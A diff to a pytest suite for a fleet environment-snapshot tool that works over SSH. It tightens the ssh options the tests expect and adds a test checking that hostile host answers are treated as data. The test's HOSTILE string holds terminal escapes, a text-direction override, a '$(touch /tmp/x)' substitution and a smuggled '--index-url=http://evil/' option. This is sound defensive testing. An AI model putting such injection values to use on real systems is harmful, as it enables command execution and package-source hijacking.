@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 from pathlib import Path
 
 import pytest
 from fleet_fakes import HANGS, SshHost, answered, failed, snapshot
 
+from envdoc.cli import app
 from envdoc.errors import DataError, UsageError
 from envdoc.model.finding import Severity
 from envdoc.model.fleet import FleetReport
@@ -89,12 +92,13 @@ def test_what_ssh_is_told(tmp_path: Path) -> None:
     asked(host, tmp_path, "node-1\nalice@10.0.0.2:2222\n", **wish)
     first = next(argv for argv in host.asked if "node-1" in argv)
     assert first == [
-        "ssh", "-T", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-o", "ServerAliveInterval=5",
+        "ssh", "-T", "-a", "-x", "-o", "ClearAllForwardings=yes",
+        "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-o", "ServerAliveInterval=5",
         "-o", "ServerAliveCountMax=3", "-F", "cfg", "--", "node-1",
         "'/opt/e v/envdoc' snapshot -o - --env '/my env' --have '/data/it'\"'\"'s'",
     ]  # fmt: skip
     second = next(argv for argv in host.asked if "10.0.0.2" in argv)
-    assert second[12:16] == ["-l", "alice", "-p", "2222"]
+    assert second[16:20] == ["-l", "alice", "-p", "2222"]
 
 
 def test_a_value_that_no_shell_can_be_given_is_refused_before_anyone_is_asked(tmp_path: Path) -> None:
@@ -169,6 +173,28 @@ def test_what_an_answer_means(tmp_path: Path, answer: object, code: str, why: st
     (found,) = [each for each in report.findings if each.code == code]
     assert found.severity is Severity.ERROR
     assert found.remediation.text
+
+
+HOSTILE = "\x1b]0;x\x07\u202e$(touch /tmp/x); --index-url=http://evil/"
+
+
+@pytest.mark.parametrize("taken", ["0001-01-01T00:00:00", "9999-12-31T23:59:59-23:59", "nan", HOSTILE])
+def test_a_hostile_answer_is_data_whatever_it_says(
+    tmp_path: Path, taken: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    data = json.loads(snapshot(driver=HOSTILE, packages=[(HOSTILE, HOSTILE), ("torch", f"2.8.0 {HOSTILE}")]))
+    data |= {"taken": taken}
+    answers = {"a": [answered(json.dumps(data))], "b": [answered(json.dumps(data))], "c": [answered(snapshot())]}
+    hosts = tmp_path / "hosts"
+    hosts.write_text("a\nb\nc\n")
+    monkeypatch.setattr("envdoc.workflow.context.local_host", lambda: SshHost(answers))
+    assert app.run(["check", "--hosts", str(hosts)]) in (0, 1)
+    told = capsys.readouterr()
+    assert not {"\x1b", "\x07", "\u202e"} & {*told.out, *told.err}
+    for line in told.out.splitlines():  # a line to paste has it in one quoted word
+        if "uv pip install" in line:
+            assert shlex.split(line.strip().lstrip("$ "))[:3] == ["uv", "pip", "install"]
+            assert len(shlex.split(line.strip().lstrip("$ "))) == 4
 
 
 def test_where_envdoc_is_no_command_python_is_asked_for_the_module(tmp_path: Path) -> None:
